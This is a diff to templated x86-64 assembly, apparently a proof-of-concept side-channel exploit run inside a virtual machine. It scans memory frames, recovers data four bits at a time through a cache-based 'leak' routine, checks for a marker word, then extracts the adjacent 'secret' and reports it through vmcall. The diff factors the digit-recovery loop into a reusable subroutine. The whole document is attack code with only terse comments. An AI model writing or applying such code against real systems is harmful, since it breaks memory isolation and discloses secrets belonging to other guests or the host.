@@ -24,18 +24,11 @@ look:
     call leak
     cmp r11, 16
     je next                     ; it is not, or nothing of the block is in the cache
+    call word
+    cmp r12, rbx
+    jne next
     mov r14, 8                  ; the other half: the secret
-    xor r9, r9
-    mov r10, 16
-    xor r12, r12
-digits:
-    call leak
-    mov rcx, rbp
-    shl r11, cl
-    or r12, r11
-    add rbp, 4
-    cmp rbp, 64
-    jb digits
+    call word
     mov rax, {call_report}
     mov rdi, r12
     vmcall
@@ -45,6 +38,21 @@ next:
     cmp r13, {machine_bytes}
     jb look
     jmp end
+
+word:                           ; r12 = the word, digit by digit
+    xor rbp, rbp
+    xor r12, r12
+    xor r9, r9
+    mov r10, 16
+digit:
+    call leak
+    mov rcx, rbp
+    shl r11, cl
+    or r12, r11
+    add rbp, 4
+    cmp rbp, 64
+    jb digit
+    ret
 
 leak:                           ; r11 = the digit from bit rbp on of word r14 of frame r13, if in r9 to r10 - 1; else 16
     mov [r15 + 40], r13
